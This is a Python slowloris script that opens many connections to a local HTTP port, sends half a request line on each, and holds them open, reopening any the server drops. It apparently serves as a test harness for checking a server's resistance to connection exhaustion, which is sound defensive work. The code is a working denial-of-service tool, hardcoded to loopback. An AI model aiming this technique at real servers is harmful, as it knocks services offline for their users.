"""A slowloris against a loopback HTTP port, standard library only (run as another user).

usage: slowloris.py PORT COUNT

Opens COUNT connections one after another (each connect waits for its handshake, at most
CONNECT_SECONDS, so every connection lands in the server's accept queue rather than being
dropped from a full one), sends half a request line on each, prints "ready OPEN" once all
are set up (or after SETUP_SECONDS), then holds them: a connection the server closes is
opened again, at most REOPEN_PER_SECOND a second, so the pressure lasts. Ends when its
standard input closes, printing "closed N" (how many connections the server closed).
"""

from __future__ import annotations

import os
import select
import socket
import sys
import time

HALF = b"GET /metr"
CONNECT_SECONDS = 3.0
SETUP_SECONDS = 240.0
REOPEN_PER_SECOND = 100


def main() -> int:
    port, count = int(sys.argv[1]), int(sys.argv[2])
    held: dict[int, socket.socket] = {}
    poller = select.poll()
    poller.register(sys.stdin.fileno(), select.POLLIN)

    def open_one() -> bool:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=CONNECT_SECONDS)
            s.sendall(HALF)
        except OSError:
            return False
        s.setblocking(False)
        held[s.fileno()] = s
        poller.register(s.fileno(), select.POLLIN)
        return True

    deadline = time.monotonic() + SETUP_SECONDS
    while len(held) < count and time.monotonic() < deadline:
        open_one()
    print(f"ready {len(held)}", flush=True)
    closed = 0
    budget, last = 0.0, time.monotonic()
    while True:
        now = time.monotonic()
        budget = min(REOPEN_PER_SECOND, budget + (now - last) * REOPEN_PER_SECOND)
        last = now
        while len(held) < count and budget >= 1:
            budget -= 1
            if not open_one():
                break
        for fd, _mask in poller.poll(200):
            if fd == sys.stdin.fileno():
                if not os.read(fd, 4096):
                    print(f"closed {closed}", flush=True)
                    return 0
                continue
            s = held.get(fd)
            if s is None:
                continue
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                closed += 1
                poller.unregister(fd)
                del held[fd]
                s.close()


if __name__ == "__main__":
    sys.exit(main())
